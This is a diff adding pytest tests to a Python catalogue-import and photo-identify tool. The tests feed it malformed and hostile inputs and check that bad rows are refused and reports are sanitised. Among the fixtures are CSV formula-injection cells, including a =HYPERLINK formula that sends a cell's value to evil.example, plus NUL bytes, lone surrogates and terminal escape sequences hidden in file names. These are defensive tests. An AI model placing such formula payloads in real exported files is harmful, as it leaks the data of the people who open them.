@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -218,6 +219,91 @@ def test_refused_rows_go_to_a_report(workspace: Workspace, catalogue_file: Path)
     assert workspace.catalogue.size().photos == 10
 
 
+HOSTILE = {
+    "cp1252.csv": "code,brand,photo\r\nT1,Tod’s,a.jpg\r\n".encode("cp1252"),
+    "formula.csv": (
+        b"code,brand,photo\n=cmd|x,B,a.jpg\nF2,=1+1,nope.jpg\n"
+        b'@SUM(A1),B,"=HYPERLINK(""http://evil.example/?x=""&A1)"\n+F,B,-nope.jpg\n'
+    ),
+    "unclosed.csv": b'code,name,photo\nU1,"open,a.jpg\n'
+    + b"".join(b"U%d,N,a.jpg\n" % number for number in range(2, 60)),
+    "nul.csv": b"code,name,photo\nN1,a\0b,a.jpg\nN2,x,a.jpg\n",
+    "surrogates.jsonl": rb"""{"code":"SU1","photo":"a.jpg"}
+{"code":"\ud800","photo":"a.jpg"}
+{"code":"SU2","photo":"a.jpg","name":"x\ud800y"}
+{"code":"SU3","photo":"\ud800.jpg"}
+{"code":"SU4","photo":"a.jpg"}
+""",
+    f"{'가' * 80}.csv": b"code,photo\nL1,nope.jpg\n",
+}
+EXPECTED = {  # rows, added, refused
+    "cp1252.csv": (1, 1, 0),
+    "formula.csv": (4, 1, 3),
+    "unclosed.csv": (59, 58, 1),
+    "nul.csv": (2, 1, 1),
+    "surrogates.jsonl": (5, 2, 3),
+    f"{'가' * 80}.csv": (1, 0, 1),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: name[:10])
+def test_hostile_files_cost_their_bad_rows_only(
+    workspace: Workspace, tmp_path: Path, name: str
+) -> None:
+    (tmp_path / "a.jpg").write_bytes(jpeg("disc"))
+    (tmp_path / name).write_bytes(HOSTILE[name])
+    terminal = {"PYTHONIOENCODING": "ascii"}
+    done = satchel("import", tmp_path / name, cwd=workspace.folder, environment=terminal)
+    rows, added, refused = EXPECTED[name]
+    assert f"{rows} rows: {added} added, 0 already there, {refused} refused" in done.stderr
+    assert (done.returncode, done.stdout) == (1 if refused else 0, "")
+    assert "Traceback" not in done.stderr
+    reports = [path for path in (workspace.folder / "runs").iterdir() if path.suffix == ".csv"]
+    assert len(reports) == bool(refused)
+    for report in reports:
+        with report.open(encoding="utf-8-sig", newline="") as file:
+            told = list(csv.reader(file))
+        assert len(told) == 1 + refused
+        assert not [cell for row in told for cell in row if cell.startswith(tuple("=+-@\t\r"))]
+        assert all(cell.isprintable() for row in told for cell in row)
+
+
+def test_names_that_are_no_text_survive_import_and_identify(here: Path, tmp_path: Path) -> None:
+    broken = os.fsdecode(b"\xb0\xa1")  # 가, as an old Korean server wrote it
+    folder = tmp_path / broken
+    odd = "red] :bag:\x1b[2J.jpg"  # in the folder "[": "[/red]" ends a style in rich's markup
+    for name in (
+        "M0/good.jpg",
+        f"M0/{broken}.jpg",
+        f"M0/[/{odd}",
+        f"{broken}/bad code.jpg",
+        "M1/@eaDir/x.jpg",
+    ):
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(jpeg("disc", len(name)))
+    (folder / "M0" / f"{broken}가.jpg").write_text("this is text")
+    imported = satchel("import", folder, cwd=here)
+    assert "5 rows: 3 added, 0 already there, 2 refused" in imported.stderr
+    assert "made by a NAS, Windows or macOS: @eaDir (1)" in imported.stderr
+    (report,) = (here / "runs").glob("import-*.csv")
+    told = report.read_text(encoding="utf-8-sig")
+    assert r"\udcb0\udca1,holds characters that cannot be printed" in told
+    assert r'\udcb0\udca1가.jpg,"expected a JPEG' in told
+    for encoding, options in (("utf-8", ["--json"]), ("ascii", [])):
+        terminal = {"PYTHONIOENCODING": encoding}
+        done = satchel("identify", *options, folder, cwd=here, environment=terminal)
+        assert done.returncode == 1
+        assert r"\udcb0\udca1" in done.stderr
+        assert "@eaDir (1)" in done.stderr
+        assert "Traceback" not in done.stderr
+        assert "\x1b" not in done.stdout + done.stderr
+        if options:
+            names = {Path(json.loads(line)["photo"]).name for line in done.stdout.splitlines()}
+            assert names == {"good.jpg", f"{broken}.jpg", "bad code.jpg", odd}
+        else:
+            assert "[/red] :bag:" in re.sub(r"\s+", " ", done.stdout)
+
+
 def test_an_encoding_can_be_named(workspace: Workspace, tmp_path: Path) -> None:
     (tmp_path / "a.jpg").write_bytes(jpeg("disc"))
     table = tmp_path / "c.csv"
@@ -228,6 +314,20 @@ def test_an_encoding_can_be_named(workspace: Workspace, tmp_path: Path) -> None:
     taken = satchel("import", table, "--encoding", "cp949", cwd=workspace.folder)
     assert taken.returncode == 0
     assert workspace.catalogue.product("M1").colour == "카키"
+
+
+def test_system_files_are_passed_over_by_identify(here: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "query"
+    for name in ("a.jpg", "._a.jpg", "@eaDir/a.jpg", "more/$RECYCLE.BIN/a.jpg", "more/b.jpg"):
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(jpeg("disc", 50))
+    done = satchel("identify", "--json", "--top", 1, folder, cwd=here)
+    assert done.returncode == 0
+    found = [json.loads(line)["photo"] for line in done.stdout.splitlines()]
+    assert found == [str(folder / "a.jpg"), str(folder / "more" / "b.jpg")]
+    assert "passed over, made by a NAS, Windows or macOS: " in done.stderr
+    long = satchel("identify", "a" * 5_000, cwd=here)
+    assert (long.returncode, "Traceback" in long.stderr) == (1, False)
 
 
 def test_workspace_by_option_and_by_environment(here: Path, tmp_path: Path) -> None:
